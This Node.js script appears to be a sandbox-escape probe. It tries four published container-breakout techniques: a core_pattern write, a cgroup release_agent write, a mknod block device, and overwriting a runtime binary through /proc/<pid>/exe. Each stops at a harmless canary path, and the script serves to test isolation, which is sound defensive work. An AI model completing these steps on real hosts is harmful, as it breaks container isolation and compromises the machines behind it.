// Published ways out of a container, each up to the point where the machine would be lost, and no further.
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, openSync, writeFileSync } from 'node:fs';

const secret = process.env.CANARY;
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const attempt = (act) => {
  try {
    act();
  } catch (error) {
    console.log(error.code ?? error.message);
  }
};
const run = (program, ...args) => {
  const { status, stderr } = spawnSync(program, args, { encoding: 'utf8' });
  console.log(program, status, stderr);
};
const ways = {
  'core-pattern': () =>
    attempt(() => writeFileSync('/proc/sys/kernel/core_pattern', `|/nonexistent/${secret}`, { flag: 'r+' })),
  'release-agent': async () => {
    mkdirSync('/tmp/groups');
    run('mount', '-t', 'cgroup', '-o', `none,name=${secret}`, 'groups', '/tmp/groups');
    attempt(() => writeFileSync('/tmp/groups/release_agent', `/nonexistent/${secret}`, { flag: 'r+' }));
    await wait(400);
    run('umount', '/tmp/groups');
  },
  'device-node': async () => {
    run('mknod', '/tmp/disk', 'b', '259', '77');
    await wait(300);
  },
  'overwritten-runtime': async () => {
    const child = spawn('/opt/replay/runtime', ['0.2']);
    await wait(50);
    let held = -1;
    attempt(() => {
      held = openSync(`/proc/${child.pid}/exe`, 'r');
    });
    await new Promise((resolve) => child.on('exit', resolve));
    attempt(() => writeFileSync(`/proc/self/fd/${held}`, `#!/bin/sh\necho ${secret}\n`));
  },
};
await ways[process.argv[2]]();
